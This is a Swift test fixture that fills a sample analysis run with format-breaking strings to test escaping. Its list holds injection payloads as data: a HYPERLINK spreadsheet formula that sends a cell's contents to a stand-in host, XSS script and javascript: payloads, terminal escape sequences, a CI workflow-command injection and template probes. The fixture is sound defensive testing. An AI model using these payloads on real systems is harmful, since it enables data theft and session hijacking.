import AnalysisCore
import JSON

extension SampleRun {
    /// Texts that break, or break out of, one format or another.
    static let hostileTexts: [(name: String, text: String)] = [
        ("quotes", #"He said "no", twice: ""."#),
        ("lines", "one\ntwo\r\nthree\rfour\u{2028}five\u{2029}six"),
        ("nul", "before\0after"),
        ("formula", "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"),
        ("formula-plus", "+1"),
        ("formula-minus", "-2+3"),
        ("formula-at", "@SUM(A1)"),
        ("formula-tab", "\t=1"),
        ("formula-return", "\r=1"),
        ("formula-wide", "＝1"),
        ("script", "</script><script>alert(1)</script><img src=x onerror=alert(1)>"),
        ("comment", "<!-- --><![CDATA[ ]]> ]]>"),
        ("entities", "&lt;b&gt; &amp; &#0;"),
        ("link", "[a](javascript:alert(1)) `code` | *bold* _it_ # h @team #1 ~~x~~"),
        ("escapes", "\u{1B}[2J\u{1B}]52;c;aGk=\u{7}\u{9B}31m\u{85}\u{7F}"),
        ("bidi", "gnp.\u{202E}cod\u{202C} \u{2066}x\u{2069} שלום مرحبا"),
        ("emoji", "👩‍👩‍👧‍👦🏳️‍🌈é\u{301}\u{FEFF}\u{FFFE}\u{10FFFF}"),
        ("command", "::error::owned%0A::set-output name=x::y"),
        ("template", "{{7*7}} ${x} #{x} <%= x %>"),
        ("backslash", #"C:\new\table\ "#),
        ("space", "  leading and trailing  "),
    ]

    /// Every hostile text as a name of a document, a field, and the message of a failure.
    static let hostile: SampleRun = {
        var run = SampleRun(
            "</script><b>\"hostile\"</b>",
            analysis: .extraction,
            inputs: ["<in & out>"],
            schema: .object([
                .init(name: "=field, \"x\"", schema: .text),
                .init(name: "list", schema: .list(.text)),
                .init(name: "kind", schema: .enumeration(["<script>", "a|b", "c"])),
            ]),
            records: hostileTexts.enumerated().flatMap { index, hostile -> [Record] in
                [
                    .sample(
                        "\(hostile.name)/\(hostile.text).txt",
                        2 * index,
                        .analyzed(fields: [
                            "=field, \"x\"": .string(hostile.text),
                            "list": [.string(hostile.text)],
                            "kind": .string(["<script>", "a|b", "c"][index % 3]),
                        ]),
                        asked: .sample(index, notes: [hostile.text]),
                        findings: [Finding(kind: "odd-text", message: hostile.text, line: index)]
                    ),
                    .sample(
                        hostile.text,
                        2 * index + 1,
                        .failed(.invalidAnswer, message: hostile.text),
                        asked: .sample(index)
                    ),
                ]
            },
            gates: [
                GateResult(name: "<b>|kind", condition: "<= 1%", measured: 0.3, passed: false)
            ],
            texts: Dictionary(
                uniqueKeysWithValues: hostileTexts.enumerated().map { index, hostile in
                    (2 * index, "A text, and in it " + hostile.text)
                }
            )
        )
        run.summary.ending = .providerUnusable
        run.summary.endingMessage = hostileTexts.map(\.text).joined(separator: " ")
        return run
    }()
}
